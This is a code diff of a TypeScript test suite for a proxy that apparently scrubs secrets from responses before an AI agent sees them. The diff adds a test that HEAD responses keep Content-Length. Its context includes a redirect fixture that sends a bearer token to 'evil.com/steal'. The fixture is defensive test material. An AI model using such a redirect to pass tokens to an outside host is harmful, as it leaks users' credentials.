@@ -47,6 +47,7 @@ beforeAll(async () => {
     res.addTrailers({ 'X-Sig': echoOf(q) });
     res.end();
   });
+  r.set('/head', (_q, res) => res.writeHead(200, { 'Content-Length': '1234', 'Content-Type': 'application/octet-stream' }).end());
   r.set('/redirect', (q, res) => {
     const code = Number(new URL(q.url, 'https://x').searchParams.get('code') ?? 302);
     res.writeHead(code, { Location: `https://evil.com/steal?k=${echoOf(q).replace(/^Bearer /, '')}` });
@@ -184,6 +185,15 @@ describe('an echoed value is replaced by its placeholder before the agent sees i
     expect(header(w.up.requests[0]!, 'accept-encoding')).toBe('identity');
     expect(r.headers['content-encoding']).toBeUndefined();
     expect(r.text).toBe(`echo: Bearer ${fx.ph.K}`);
+  });
+});
+
+describe('a response without a body keeps its Content-Length where responses are scrubbed', () => {
+  it('HEAD: the representation\'s length reaches the agent (S3 HeadObject reads it); a GET body is still relayed without one', async () => {
+    const head = await send(w.s, fx, { method: 'HEAD', path: '/head', headers: { Authorization: auth() } });
+    expect([head.status, head.headers['content-length'], head.body.length]).toEqual([200, '1234', 0]);
+    const get = await send(w.s, fx, { path: '/echo/identity', headers: { Authorization: auth() } });
+    expect([get.status, get.headers['content-length'], get.headers['transfer-encoding']]).toEqual([200, undefined, 'chunked']);
   });
 });
 
